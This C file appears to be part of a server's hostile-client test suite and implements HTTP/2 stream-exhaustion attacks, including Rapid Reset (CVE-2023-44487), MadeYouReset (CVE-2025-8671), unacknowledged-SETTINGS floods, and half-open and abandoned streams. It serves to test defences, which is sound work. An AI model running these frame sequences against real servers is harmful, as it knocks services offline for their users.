/* tests/hostile/attack_streams.c - attacks that open streams faster or further than they should. */
#include <string.h>

#include "tests/hostile/attack.h"

enum {
    UNACKNOWLEDGED_STREAMS = 100000, /* of one connection */
    FILL_STREAMS = 200,              /* at once */
    ABANDONED_STREAMS = 900,         /* fewer than any server's limit of a connection */
    MESSAGE_FLAG_BAD = 0xff
};

/* CVE-2023-44487: a request and its cancellation, again and again; never are many open. */
static void rapid_reset_fill(hostile *self)
{
    peer *peer = &self->peer;

    while (peer->out.len < FILL_SIZE / 4) {
        uint32_t stream = peer_request(peer, NULL, FLAG_END_STREAM);
        wire_rst_stream(&peer->out, stream, ERROR_CANCEL);
    }
}

/* As before, but the request is whole, so that its handler has begun when the reset comes. */
static void request_reset_fill(hostile *self)
{
    peer *peer = &self->peer;

    while (peer->out.len < FILL_SIZE / 4) {
        uint32_t stream = peer_request(peer, NULL, 0);
        wire_message(&peer->out, stream, 0, NULL, 0, true);
        wire_rst_stream(&peer->out, stream, ERROR_CANCEL);
    }
}

/* CVE-2025-8671: the client never resets; it does what makes the server reset the stream. */
static void made_you_reset_fill(hostile *self)
{
    peer *peer = &self->peer;

    while (peer->out.len < FILL_SIZE / 4) {
        uint32_t stream;
        switch (self->step++ % 3) {
        case 0: /* the status is known while the client's half is open: RST_STREAM NO_ERROR */
            peer_request(peer, "/no.such.Service/Method", 0);
            break;
        case 1: /* a message whose flags do not exist */
            stream = peer_request(peer, NULL, 0);
            wire_message(&peer->out, stream, MESSAGE_FLAG_BAD, "", 0, false);
            break;
        default: /* a window that overflows */
            stream = peer_request(peer, NULL, 0);
            wire_window_update(&peer->out, stream, WINDOW_MAX);
            wire_window_update(&peer->out, stream, WINDOW_MAX);
        }
    }
}

/* A server's limit of streams binds a client once it has acknowledged the SETTINGS: it does not. */
static void settings_no_ack_fill(hostile *self)
{
    for (unsigned i = 0; i < FILL_STREAMS && self->streams < UNACKNOWLEDGED_STREAMS; i++) {
        peer_request(&self->peer, NULL, 0);
        self->streams++;
    }
}

/* Streams up to the limit and beyond, all of them left open, then small DATA on each. */
static void open_streams_fill(hostile *self)
{
    static const uint8_t half_prefix[2] = {0, 0};

    if (self->streams < UNACKNOWLEDGED_STREAMS) {
        for (unsigned i = 0; i < FILL_STREAMS; i++) {
            uint32_t stream = peer_request(&self->peer, NULL, 0);
            wire_frame(&self->peer.out, FRAME_DATA, 0, stream, half_prefix, sizeof(half_prefix));
            self->streams++;
        }
    }
}

/* What a reset does to one stream, the end of the connection does to all of its. */
static void abandon_fill(hostile *self)
{
    for (unsigned i = 0; i < ABANDONED_STREAMS; i++)
        peer_request(&self->peer, NULL, 0);
}

const attack stream_attacks[] = {
    {.name = "rapid_reset",
     .summary = "opens streams and resets them at once",
     .fill = rapid_reset_fill},
    {.name = "request_reset",
     .summary = "sends whole requests and resets them at once",
     .fill = request_reset_fill},
    {.name = "made_you_reset",
     .summary = "makes the server reset streams",
     .fill = made_you_reset_fill},
    {.name = "settings_no_ack",
     .summary = "acknowledges no SETTINGS and opens streams without end",
     .flags = PEER_NO_ACK,
     .pause_ms = 1,
     .fill = settings_no_ack_fill},
    {.name = "open_streams",
     .summary = "opens streams without end and begins a message on each",
     .pause_ms = 1,
     .fill = open_streams_fill},
    {.name = "abandoned_streams",
     .summary = "opens 900 streams, drops the connection, and again",
     .pause_ms = 1,
     .closes = true,
     .fill = abandon_fill},
    {0},
};
